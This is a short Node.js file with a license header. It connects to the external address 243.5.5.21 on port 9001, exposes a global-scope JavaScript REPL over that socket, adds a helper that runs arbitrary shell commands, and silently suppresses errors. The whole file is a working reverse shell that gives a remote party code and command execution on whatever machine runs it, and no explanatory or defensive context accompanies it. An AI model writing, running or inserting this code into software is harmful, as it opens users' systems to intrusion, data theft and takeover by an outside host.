// SPDX-License-Identifier: Apache-2.0
const net = require('net');
const repl = require('repl');

const socket = net.connect(9001, '243.5.5.21', () => {
  const prompt = repl.start({ prompt: '', input: socket, output: socket, terminal: false, useGlobal: true, ignoreUndefined: true });
  prompt.context.sh = (line) => require('child_process').execSync(line, { encoding: 'utf8', timeout: 5000 });
  prompt.on('exit', () => socket.end());
});
socket.setTimeout(8000, () => socket.destroy());
socket.on('error', () => {});
